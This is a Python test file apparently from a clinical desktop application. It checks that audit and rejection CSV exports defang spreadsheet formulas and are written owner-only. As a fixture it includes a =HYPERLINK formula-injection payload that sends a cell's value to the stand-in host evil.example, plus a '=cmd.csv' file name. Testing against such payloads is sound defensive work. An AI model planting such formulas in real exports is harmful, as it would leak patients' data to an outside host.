"""Exports safe to open: no cell a spreadsheet takes for a formula, files private to their owner."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

from mdt_desktop.services import audit_log, record
from mdt_desktop.services.importing import import_files, write_rejections
from mdt_desktop.store.context import Actor
from mdt_desktop.store.database import Store
from mdt_desktop.store.exports import FORMULA_STARTS, safe_cell

EVIL = '=HYPERLINK("http://evil.example/?"&J2,"Open")'


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_safe_cell_neutralises_every_formula_start() -> None:
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}1+1").startswith("'")
    assert safe_cell("Smith") == "Smith"
    assert safe_cell(None) == ""
    assert safe_cell(42) == "42"


def test_audit_export_and_rejections_csv_neutralise_formulas(store: Store, tmp_path: Path) -> None:
    gp_file = tmp_path / "=cmd.csv"
    gp_file.write_text(
        "NHS Number,Surname,Forename,Date of Birth\n"
        f'9990000018,"{EVIL.replace(chr(34), chr(34) * 2)}",+Ada,01/01/1950\n'
        "123,Broken,-Bob,01/01/1950\n",
        encoding="utf-8",
    )
    summary = import_files(store, [gp_file], today=date(2026, 11, 22), stratify=False)
    assert summary.inserted == 1 and summary.rejected == 1
    (pid,) = _ids(store)
    store.set_actor(Actor(user_id=None, name="Paul Marshall", role="administrator"))
    record.open_record(store, pid)  # an audit entry naming the person
    out = tmp_path / "audit.csv"
    assert audit_log.export_csv(store, audit_log.AuditFilter(), out) > 0
    rejections = tmp_path / "rejections.csv"
    write_rejections(summary, rejections)
    for path in (out, rejections):
        cells = _cells(path)
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], path.name
        assert path.stat().st_mode & 0o777 == 0o600
    assert any(c.startswith("'=HYPERLINK") for c in _cells(out))
    assert "'=cmd.csv" in _cells(rejections)


def _ids(store: Store) -> list:
    from sqlalchemy import select

    from mdt_desktop.store.schema import Patient

    with store.session() as s:
        return list(s.scalars(select(Patient.id)))
